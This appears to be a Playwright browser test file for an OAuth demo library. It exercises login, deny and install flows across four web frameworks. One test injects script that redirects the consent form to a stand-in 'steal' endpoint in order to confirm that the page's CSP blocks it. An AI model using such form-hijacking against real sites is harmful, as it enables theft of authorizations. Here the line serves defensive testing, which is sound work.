"""The demo in a real browser: headless Chromium (Debian's package) driven by Playwright.

An HTTP client ignores what a browser enforces: CSP on the consent page (``form-action`` applies to the
redirect that follows the form's POST), SameSite on the session cookie, JavaScript. So each example app is
served as ``gist-authlib demo`` serves it (tests/support/demo_stack.py), the sandbox on ``localhost`` and the app on
``127.0.0.1`` so that the return from the sandbox is cross-site, as it is from real Gist, and a person's
clicks are replayed: log in and approve, log in and deny, install from the sandbox and approve or decline. Any
console error fails the test. A failed test leaves a screenshot of the page, named after the last step it
reached, under its ``tmp_path``.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page
from support.browser import BROWSER_TESTS, failed
from support.demo_stack import APP_NAME, DemoStack, start_demo_stack

pytestmark = BROWSER_TESTS

FRAMEWORKS = ["starlette", "fastapi", "flask", "django"]
TIMEOUT_MS = 15_000


@pytest.fixture
def chromium(chromium_browser: Browser) -> Iterator[BrowserContext]:
    context = chromium_browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    yield context
    context.close()


@pytest.fixture(scope="module", params=FRAMEWORKS)
def cross_site(request: pytest.FixtureRequest) -> Iterator[DemoStack]:
    """An example app on 127.0.0.1 and the sandbox on localhost: two sites, as the app and Gist are."""
    stack = start_demo_stack(str(request.param), sandbox_host="localhost", app_host="127.0.0.1")
    yield stack
    stack.stop()


@pytest.fixture(scope="module")
def same_site() -> Iterator[DemoStack]:
    """The demo's own layout: both on 127.0.0.1 (different ports, one site)."""
    stack = start_demo_stack("starlette", sandbox_host="127.0.0.1", app_host="127.0.0.1")
    yield stack
    stack.stop()


@dataclass
class Tab:
    """A browser page with no cookies yet, its console errors, and the last step it reached."""

    page: Page
    shots: Path
    label: str
    console_errors: list[str] = field(default_factory=list)
    step: str = "start"

    def shot(self, name: str) -> None:
        """Mark a step: if the test fails later, its screenshot is named after the last step reached."""
        self.step = name


def _tab(context: BrowserContext, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Tab]:
    context.clear_cookies()  # each test starts as a new visitor
    callspec = getattr(request.node, "callspec", None)
    tab = Tab(context.new_page(), tmp_path, f"{callspec.id}-" if callspec else "")

    def on_console(message: ConsoleMessage) -> None:
        # Every page names an empty icon, so not even the browser's own request for /favicon.ico fails.
        if message.type == "error":
            tab.console_errors.append(f"{message.location.get('url')}: {message.text}")

    tab.page.on("console", on_console)
    tab.page.on("pageerror", lambda error: tab.console_errors.append(f"page error: {error}"))
    yield tab
    if failed(request):
        tab.page.screenshot(path=tab.shots / f"{tab.label}failed-after-{tab.step}.png", full_page=True)
    tab.page.close()


@pytest.fixture
def tab(chromium: BrowserContext, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Tab]:
    yield from _tab(chromium, tmp_path, request)


@pytest.fixture
def full_browser_tab(full_chromium: Browser, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Tab]:
    """A tab in the full Chromium browser, which (unlike the headless shell) also asks every site for its icon."""
    context = full_chromium.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    yield from _tab(context, tmp_path, request)
    context.close()


def open_consent_page(tab: Tab, stack: DemoStack) -> None:
    """From the example's home page, click "Log in with Gist" and land on the sandbox's consent page."""
    page = tab.page
    page.goto(stack.app_url + "/")
    page.get_by_role("link", name="Log in with Gist").click()
    page.wait_for_url(f"{stack.sandbox_url}/oauth/authorize?**")
    tab.shot("consent")
    assert page.get_by_role("heading", name=f"Authorize {APP_NAME}").is_visible()
    assert "read_teammates" in page.inner_text("body")


def approve_and_see_the_teammates(tab: Tab, stack: DemoStack) -> None:
    page = tab.page
    open_consent_page(tab, stack)
    page.get_by_role("button", name="Approve").click()
    # A new visitor comes back from Gist with no session: the app opens the callback again from its own site (a
    # SameSite=Strict session would come back then), and answers.
    page.get_by_role("heading", name="Logged in with Gist").wait_for()
    tab.shot("after-approve")
    # The Django example logs the workspace's Django user in and goes on to LOGIN_REDIRECT_URL; the others answer
    # on the callback.
    landing = "/me/teammates" if stack.framework == "django" else "/oauth/gist/callback"
    assert page.url.startswith(stack.app_url + landing)
    shown = page.locator("#teammates li").all_inner_texts()
    assert [t["name"] for t in stack.sandbox.workspace.teammates] == [item.split(" <")[0] for item in shown]


def test_approve_in_chromium_logs_in_across_sites_and_lists_the_teammates(tab: Tab, cross_site: DemoStack) -> None:
    approve_and_see_the_teammates(tab, cross_site)
    # The session cookie came back on the cross-site return and now names the stored token.
    tab.page.goto(cross_site.app_url + "/me/teammates")
    tab.shot("stored-token")
    assert tab.page.url == cross_site.app_url + "/me/teammates"
    assert len(tab.page.locator("#teammates li").all_inner_texts()) == len(cross_site.sandbox.workspace.teammates)
    assert tab.console_errors == []


def test_deny_in_chromium_shows_the_apps_clear_error_page_and_a_retry_link(tab: Tab, cross_site: DemoStack) -> None:
    issued = cross_site.sandbox.tokens_issued
    open_consent_page(tab, cross_site)
    page = tab.page
    with page.expect_response(lambda r: "/oauth/gist/callback?" in r.url and r.status != 200) as callback:
        page.get_by_role("button", name="Deny").click()  # (bounced same-site first, as a new visitor)
    page.wait_for_load_state()
    tab.shot("after-deny")
    assert callback.value.status == 400
    page.get_by_role("heading", name="Access was not granted").wait_for()
    assert "error=access_denied" in page.url and page.url.startswith(cross_site.app_url)
    assert "You declined to give this app access" in page.inner_text("body")
    assert cross_site.sandbox.tokens_issued == issued
    page.get_by_role("link", name="Log in again").click()
    page.wait_for_url(f"{cross_site.sandbox_url}/oauth/authorize?**")
    assert page.get_by_role("button", name="Approve").is_visible()
    # Chromium reports every document answered with an error status; that 400 is the page itself, and nothing else.
    expected = f"{callback.value.url}: Failed to load resource: the server responded with a status of 400"
    assert [e for e in tab.console_errors if not e.startswith(expected)] == []


def test_install_started_in_the_sandbox_is_stored_and_acknowledged(tab: Tab, cross_site: DemoStack) -> None:
    before = len(cross_site.sandbox.installs_acknowledged)
    page = tab.page
    page.goto(cross_site.install_url)
    tab.shot("install-consent")
    assert page.get_by_role("heading", name=f"Install {APP_NAME}").is_visible()
    assert "read_teammates" in page.inner_text("body")
    # The install consent page's CSP lets Approve through to the app's redirect URI, across sites.
    page.get_by_role("button", name="Approve").click()
    page.wait_for_url(f"{cross_site.sandbox_url}/install_success?**")
    tab.shot("installed")
    assert page.get_by_role("heading", name="App installed").is_visible()
    workspace = str(cross_site.sandbox.workspace.id)
    assert cross_site.sandbox.installs_acknowledged[before:] == [
        {"client_id": cross_site.client_id, "workspace_id": workspace}
    ]
    assert tab.console_errors == []


# Declining happens on the sandbox's page and sends the app nothing, whatever its framework: one is enough.
@pytest.mark.parametrize("cross_site", ["starlette"], indirect=True)
def test_an_install_declined_in_chromium_sends_the_app_nothing(tab: Tab, cross_site: DemoStack) -> None:
    issued, acknowledged = cross_site.sandbox.tokens_issued, len(cross_site.sandbox.installs_acknowledged)
    page = tab.page
    page.goto(cross_site.install_url)
    page.get_by_role("button", name="Deny").click()
    page.wait_for_load_state()
    tab.shot("install-declined")
    assert page.get_by_role("heading", name="Installation cancelled").is_visible()
    assert page.url.startswith(cross_site.sandbox_url + "/install")
    assert cross_site.sandbox.tokens_issued == issued
    assert len(cross_site.sandbox.installs_acknowledged) == acknowledged
    assert tab.console_errors == []


def test_approve_in_chromium_with_the_demos_own_layout(tab: Tab, same_site: DemoStack) -> None:
    approve_and_see_the_teammates(tab, same_site)
    assert tab.console_errors == []


def test_the_demos_login_in_the_full_browser_logs_no_console_error(full_browser_tab: Tab, same_site: DemoStack) -> None:
    # What `gist-authlib demo` shows a person, in the browser they would use: not one error in the console, the
    # browser's own request for each site's icon included.
    approve_and_see_the_teammates(full_browser_tab, same_site)
    assert full_browser_tab.console_errors == []


def test_the_consent_page_may_post_to_the_app_and_nowhere_else(tab: Tab, same_site: DemoStack) -> None:
    """The CSP that lets Approve through still stops the consent form from being sent to a third site."""
    open_consent_page(tab, same_site)
    page = tab.page
    with page.expect_console_message(lambda message: "form-action" in message.text) as blocked:
        # A script's click: Playwright's own click would wait for a navigation that never comes.
        page.evaluate(
            "document.querySelector('form').action = 'http://127.0.0.2:9/steal';"
            "document.querySelector('button[value=approve]').click()"
        )
    assert "violates the following Content Security Policy directive" in blocked.value.text
    assert "http://127.0.0.2:9/steal" in blocked.value.text
    assert page.url.startswith(f"{same_site.sandbox_url}/oauth/authorize?")


@pytest.mark.parametrize("cross_site", ["django"], indirect=True)
def test_the_django_examples_admin_comes_with_its_styles_and_scripts(tab: Tab, cross_site: DemoStack) -> None:
    """The admin the Django example offers (its login page, as a superuser first meets it), served as the demo serves
    the example: styled, and not one script or stylesheet missing."""
    page = tab.page
    page.goto(cross_site.app_url + "/admin/")
    page.wait_for_url(cross_site.app_url + "/admin/login/?next=/admin/")
    header = page.evaluate("getComputedStyle(document.querySelector('#header')).display")
    assert page.locator("#id_username").is_visible() and header == "flex"  # the admin's base.css lays it out
    assert tab.console_errors == []
